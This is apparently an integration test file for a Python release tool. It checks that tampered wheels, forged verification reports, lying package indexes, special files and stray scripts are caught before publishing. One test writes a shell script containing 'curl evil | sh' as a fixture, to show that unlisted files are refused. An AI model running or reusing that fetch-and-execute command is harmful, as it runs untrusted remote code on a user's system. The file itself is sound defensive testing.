"""Published = verified: a wheel swapped, or a report edited, at each hand-off stops the release
naming both digests (release-checks, `dist/`, preflight, the index listing, a downloaded release)."""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.integration.publish_support import (
    ROOT,
    HostileIndex,
    json_page,
    make_wheelhouse,
    run_release,
    send,
    sha256_file,
    write_matrix,
)

pytestmark = pytest.mark.integration


@pytest.fixture
def stub() -> Iterator[HostileIndex]:
    with HostileIndex(json_page()) as index:  # every project free, nothing listed
        yield index


@pytest.fixture
def wheelhouse(tmp_path: Path) -> Path:
    write_matrix(tmp_path)
    return make_wheelhouse(tmp_path / "wheelhouse")


def checks(wheelhouse: Path, stub: HostileIndex, *extra: str) -> subprocess.CompletedProcess[str]:
    return run_release(
        "release-checks", "--tag", "v0.1.0", "--repository", f"http://127.0.0.1:{stub.port}/",
        "--repo", "ringlet/xfer", *extra, str(wheelhouse), matrix=wheelhouse.parent / "matrix.yaml",
    )  # fmt: skip


def first_wheel(wheelhouse: Path) -> Path:
    return sorted(wheelhouse.glob("cpu/*.whl"))[0]


def test_a_wheel_swapped_after_verify_stops_release_checks(wheelhouse: Path, stub: HostileIndex) -> None:
    wheel = first_wheel(wheelhouse)
    verified = sha256_file(wheel)
    wheel.write_bytes(wheel.read_bytes() + b"\0")
    proc = checks(wheelhouse, stub, "--dist", str(wheelhouse.parent / "dist"))
    assert proc.returncode != 0
    assert verified in proc.stderr and sha256_file(wheel) in proc.stderr
    assert not (wheelhouse.parent / "dist").exists()


@pytest.mark.parametrize(
    ("field", "value"),
    [("schema_version", 999), ("rules", "x"), ("releasable", False), ("ok", False)],
)
def test_an_edited_report_stops_release_checks(
    wheelhouse: Path, stub: HostileIndex, field: str, value: object
) -> None:
    report = first_wheel(wheelhouse).with_name(first_wheel(wheelhouse).name + ".verify.json")
    data = json.loads(report.read_text())
    data[field] = value
    report.write_text(json.dumps(data))
    proc = checks(wheelhouse, stub)
    assert proc.returncode != 0
    assert report.name in proc.stderr


def test_dist_is_exactly_the_checked_set_and_the_manifest_follows_it(
    wheelhouse: Path, stub: HostileIndex
) -> None:
    dist, manifest = wheelhouse.parent / "dist", wheelhouse.parent / "release-manifest.json"
    dist.mkdir()
    (dist / "old-0.0.1-py3-none-any.whl").write_bytes(b"stale")
    proc = checks(wheelhouse, stub, "--dist", str(dist), "--manifest", str(manifest))
    assert proc.returncode != 0 and "not in the checked set" in proc.stderr
    (dist / "old-0.0.1-py3-none-any.whl").unlink()
    proc = checks(wheelhouse, stub, "--dist", str(dist), "--manifest", str(manifest))
    assert proc.returncode == 0, proc.stderr
    document = json.loads(manifest.read_text())
    assert {w["name"] for w in document["wheels"]} == {p.name for p in wheelhouse.glob("*/*.whl")}
    assert all(w["sha256"] == sha256_file(dist / w["name"]) for w in document["wheels"])
    matrix = wheelhouse.parent / "matrix.yaml"
    assert run_release("verify-release", str(manifest), str(dist), matrix=matrix).returncode == 0
    assert run_release("verify-release", str(manifest), str(wheelhouse), matrix=matrix).returncode == 0

    swapped = sorted(dist.glob("*.whl"))[0]
    verified = sha256_file(swapped)
    swapped.write_bytes(b"not the verified wheel")
    proc = run_release("verify-release", str(manifest), str(dist), matrix=matrix)
    assert proc.returncode != 0
    assert verified in proc.stderr and hashlib.sha256(b"not the verified wheel").hexdigest() in proc.stderr
    # release-checks again: the copy in dist/ is re-hashed, not kept
    proc = checks(wheelhouse, stub, "--dist", str(dist))
    assert proc.returncode != 0 and verified in proc.stderr


def test_an_index_listing_another_sha256_fails_verify_release(wheelhouse: Path, stub: HostileIndex) -> None:
    manifest = wheelhouse.parent / "release-manifest.json"
    assert checks(wheelhouse, stub, "--manifest", str(manifest)).returncode == 0
    names = json.loads(manifest.read_text())["wheels"]
    other = "e" * 64

    def page(conn: object, path: str) -> None:
        project = path.rstrip("/").rsplit("/", 1)[-1]
        ours = [w for w in names if w["distribution"] == project]
        files = [{"filename": w["name"], "hashes": {"sha256": other}} for w in ours]
        body = json.dumps({"meta": {"api-version": "1.1"}, "name": project, "files": files}).encode()
        send("200 OK", {"Content-Type": "application/vnd.pypi.simple.v1+json"}, body)(conn, path)  # type: ignore[arg-type]

    with HostileIndex(page) as lying:
        matrix = wheelhouse.parent / "matrix.yaml"
        proc = run_release("verify-release", str(manifest), "--index-url", lying.simple, matrix=matrix)
    assert proc.returncode != 0
    assert other in proc.stderr and names[0]["sha256"] in proc.stderr


def test_preflight_verifies_the_exact_bytes_again(wheelhouse: Path, stub: HostileIndex) -> None:
    """A report edited to stay self-consistent is still caught: the fresh outcome differs."""
    report = first_wheel(wheelhouse).with_name(first_wheel(wheelhouse).name + ".verify.json")
    data = json.loads(report.read_text())
    rule = next(r for r in data["rules"] if r["status"] == "pass")
    rule["status"] = "not-applicable"
    report.write_text(json.dumps(data))
    proc = run_release(
        "publish", "--tag", "v0.1.0", "--dry-run", "--repository", f"http://127.0.0.1:{stub.port}/",
        "--wheelhouse", str(wheelhouse), matrix=wheelhouse.parent / "matrix.yaml",
    )  # fmt: skip
    assert proc.returncode != 0
    assert "verified again, the outcome differs" in proc.stderr and rule["id"] in proc.stderr


# ------------------------------------------------------------------------------------------------
# Issue 31: nothing unverified is trusted; only regular files are wheels; every wait is bounded


def _one_line(proc: subprocess.CompletedProcess[str]) -> None:
    assert proc.returncode != 0 and "Traceback" not in proc.stderr, proc.stderr
    assert proc.stderr.startswith("error: ")


@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
def test_a_fifo_or_a_device_named_like_a_wheel_ends_in_one_line(
    wheelhouse: Path, stub: HostileIndex, kind: str
) -> None:
    """Today a FIFO blocked release-checks and publish in open(); a link to /dev/zero sent
    `twine check` to 5.9 GB. Both commands end at once (the subprocess timeout is the bound)."""
    import os

    odd = wheelhouse / "cpu" / "xfer_engine_cpu-0.1.0-cp310-cp310-manylinux_2_34_x86_64.whl"
    odd.unlink()
    if kind == "fifo":
        os.mkfifo(odd)
    else:
        odd.symlink_to("/dev/zero")
    what = "a FIFO" if kind == "fifo" else "a character device"
    proc = checks(wheelhouse, stub)
    _one_line(proc)
    assert f"{odd.name}: {what}" in proc.stderr
    proc = run_release(
        "publish", "--tag", "v0.1.0", "--dry-run", "--repository", f"http://127.0.0.1:{stub.port}/",
        "--wheelhouse", str(wheelhouse), matrix=wheelhouse.parent / "matrix.yaml", timeout=90,
    )  # fmt: skip
    _one_line(proc)
    assert f"{odd.name}: {what}" in proc.stderr


def test_a_dripping_json_page_ends_within_the_deadline(wheelhouse: Path) -> None:
    """release-checks reads /pypi/<project>/json: today 30 s per read and no overall deadline."""
    from tests.integration.publish_support import drip_json, files_without_hashes, routes

    ours = {p.name: b"" for p in wheelhouse.glob("*/*.whl")}  # each project's page lists its own
    with HostileIndex(routes(files_without_hashes(ours), pypi=drip_json(every=0.5, limit=100))) as dripping:
        proc = checks(wheelhouse, dripping, "--timeout", "3")  # run_release's bound: 120 s
    assert proc.returncode == 0, proc.stderr
    assert "already ours" in proc.stdout


def test_a_forged_self_consistent_report_never_reaches_dist(wheelhouse: Path, stub: HostileIndex) -> None:
    """A wheel that fails wheel-integrity (an entry outside RECORD), with a report edited to say
    pass, ok and releasable: today it went into dist/ and the manifest."""
    import zipfile

    from tests.integration.publish_support import write_report

    wheel = first_wheel(wheelhouse)
    with zipfile.ZipFile(wheel, "a") as zf:
        zf.writestr("xfer/unlisted.py", b"# not in RECORD\n")
    report = write_report(wheel, "cpu", "xfer-engine-cpu")
    data = json.loads(report.read_text())
    for rule in data["rules"]:
        if rule["status"] in ("fail", "warn"):
            rule["status"] = "pass"
    data["ok"] = data["releasable"] = True
    report.write_text(json.dumps(data))
    dist, manifest = wheelhouse.parent / "dist", wheelhouse.parent / "m.json"
    proc = checks(wheelhouse, stub, "--dist", str(dist), "--manifest", str(manifest))
    assert proc.returncode != 0 and "verified again" in proc.stderr, proc.stderr
    assert not dist.exists() and not manifest.exists()


def test_two_wheels_for_one_build_step_are_refused(wheelhouse: Path, stub: HostileIndex) -> None:
    from tests.integration.publish_support import make_wheel, write_report

    extra = make_wheel(
        wheelhouse / "cpu", "xfer-engine-cpu", "0.1.0", "3.10", platform="manylinux_2_35_x86_64"
    )
    write_report(extra, "cpu", "xfer-engine-cpu")
    dist = wheelhouse.parent / "dist"
    proc = checks(wheelhouse, stub, "--dist", str(dist))
    assert proc.returncode != 0 and "one wheel per build step" in proc.stderr, proc.stderr
    assert not dist.exists()


def test_dist_links_and_leftovers_are_replaced_by_checked_files(wheelhouse: Path, stub: HostileIndex) -> None:
    """A dist/ entry that is a link to a file elsewhere becomes a checked regular file; the
    temporary copy a SIGKILLed run left is removed, not refused."""
    dist = wheelhouse.parent / "dist"
    dist.mkdir()
    wheel = first_wheel(wheelhouse)
    elsewhere = wheelhouse.parent / "elsewhere.whl"
    elsewhere.write_bytes(wheel.read_bytes())
    (dist / wheel.name).symlink_to(elsewhere)
    leftover = dist / f".{wheel.name}.k3y_9x.part"
    leftover.write_bytes(wheel.read_bytes()[:100])
    proc = checks(wheelhouse, stub, "--dist", str(dist))
    assert proc.returncode == 0, proc.stderr
    assert not (dist / wheel.name).is_symlink() and (dist / wheel.name).is_file()
    assert not leftover.exists()
    assert sorted(p.name for p in dist.iterdir()) == sorted(p.name for p in wheelhouse.glob("*/*.whl"))


def _checked(wheelhouse: Path, stub: HostileIndex) -> Path:
    manifest = wheelhouse.parent / "release-manifest.json"
    assert checks(wheelhouse, stub, "--manifest", str(manifest)).returncode == 0
    return manifest


def test_verify_release_refuses_anything_extra(wheelhouse: Path, stub: HostileIndex) -> None:
    """Today only `*.whl` keyed by basename was looked at: an added script passed, and so did a
    tampered copy under the same name in another folder."""
    manifest = _checked(wheelhouse, stub)
    matrix = wheelhouse.parent / "matrix.yaml"
    helper = wheelhouse / "install-helper.sh"
    helper.write_text("#!/bin/sh\ncurl evil | sh\n")
    proc = run_release("verify-release", str(manifest), str(wheelhouse), matrix=matrix)
    assert proc.returncode != 0 and "install-helper.sh: not in the manifest" in proc.stderr
    helper.unlink()
    copy = wheelhouse / "extra" / first_wheel(wheelhouse).name
    copy.parent.mkdir()
    copy.write_bytes(b"tampered")
    proc = run_release("verify-release", str(manifest), str(wheelhouse), matrix=matrix)
    assert proc.returncode != 0 and f"extra/{copy.name}" in proc.stderr
    shutil.rmtree(copy.parent)
    assert run_release("verify-release", str(manifest), str(wheelhouse), matrix=matrix).returncode == 0


def test_a_manifest_listing_a_name_twice_is_refused(wheelhouse: Path, stub: HostileIndex) -> None:
    manifest = _checked(wheelhouse, stub)
    document = json.loads(manifest.read_text())
    first = dict(document["wheels"][0], sha256="0" * 64)
    document["wheels"].insert(0, first)
    manifest.write_text(json.dumps(document))
    proc = run_release(
        "verify-release", str(manifest), str(wheelhouse), matrix=wheelhouse.parent / "matrix.yaml"
    )
    _one_line(proc)
    assert "twice" in proc.stderr


def test_verify_release_never_trusts_a_listing_without_hashes(wheelhouse: Path, stub: HostileIndex) -> None:
    """Today a manifest whose sha256 values were all wrong passed against such a listing."""
    from tests.integration.publish_support import files_without_hashes

    manifest = _checked(wheelhouse, stub)
    served = {p.name: p.read_bytes() for p in wheelhouse.glob("*/*.whl")}
    matrix = wheelhouse.parent / "matrix.yaml"
    with HostileIndex(files_without_hashes(served)) as bare:
        assert (
            run_release("verify-release", str(manifest), "--index-url", bare.simple, matrix=matrix).returncode
            == 0
        )
        document = json.loads(manifest.read_text())
        for wheel in document["wheels"]:
            wheel["sha256"] = "d" * 64
        manifest.write_text(json.dumps(document))
        proc = run_release("verify-release", str(manifest), "--index-url", bare.simple, matrix=matrix)
    assert proc.returncode != 0 and "d" * 64 in proc.stderr


def test_github_release_attaches_nothing_the_manifest_does_not_name(
    wheelhouse: Path, stub: HostileIndex
) -> None:
    from tests.integration.publish_support import gh_calls, write_fake_gh

    manifest = _checked(wheelhouse, stub)
    gh, root = write_fake_gh(wheelhouse.parent)
    (wheelhouse / "install-helper.sh").write_text("#!/bin/sh\n")
    args = (
        "github-release",
        "--tag",
        "v0.1.0",
        "--repo",
        "acme/xfer",
        "--gh",
        str(gh),
        str(wheelhouse),
        str(manifest),
    )
    matrix = wheelhouse.parent / "matrix.yaml"
    (wheelhouse.parent / "matrix.yaml").write_text((matrix.read_text()) + "  github_release: true\n")
    proc = run_release(*args, matrix=matrix)
    assert proc.returncode != 0 and "install-helper.sh: not in release-manifest.json" in proc.stderr, (
        proc.stderr
    )
    assert gh_calls(root) == []
    (wheelhouse / "install-helper.sh").unlink()
    proc = run_release(*args, matrix=matrix)
    assert proc.returncode == 0, proc.stderr


def test_a_lock_file_linked_elsewhere_is_never_truncated(wheelhouse: Path, stub: HostileIndex) -> None:
    """Today `publish --dry-run` truncated the link's target and wrote a pid into it."""
    precious = wheelhouse.parent / "precious.txt"
    precious.write_text("keep me\n")
    build = wheelhouse.parent / "build"
    build.mkdir()
    (build / ".publish.lock").symlink_to(precious)
    proc = run_release(
        "publish", "--tag", "v0.1.0", "--dry-run", "--repository", f"http://127.0.0.1:{stub.port}/",
        "--wheelhouse", str(wheelhouse), matrix=wheelhouse.parent / "matrix.yaml",
    )  # fmt: skip
    _one_line(proc)
    assert "symbolic link" in proc.stderr
    assert precious.read_text() == "keep me\n"


@pytest.mark.parametrize("command", ["plan", "publish"])
def test_a_tag_of_5000_digits_is_one_line(wheelhouse: Path, command: str) -> None:
    tag = "v" + "9" * 5000
    args = (
        ("plan", "--github", "release", "--tag", tag)
        if command == "plan"
        else ("publish", "--dry-run", "--tag", tag)
    )
    # plan reads the engine's project: the repository's matrix; publish: the tiny one.
    matrix = ROOT / "matrix.yaml" if command == "plan" else wheelhouse.parent / "matrix.yaml"
    proc = run_release(*args, matrix=matrix)
    _one_line(proc)
    assert len(proc.stderr.splitlines()) == 1 and "Exceeds the limit" not in proc.stderr
    assert "5,001 characters" in proc.stderr
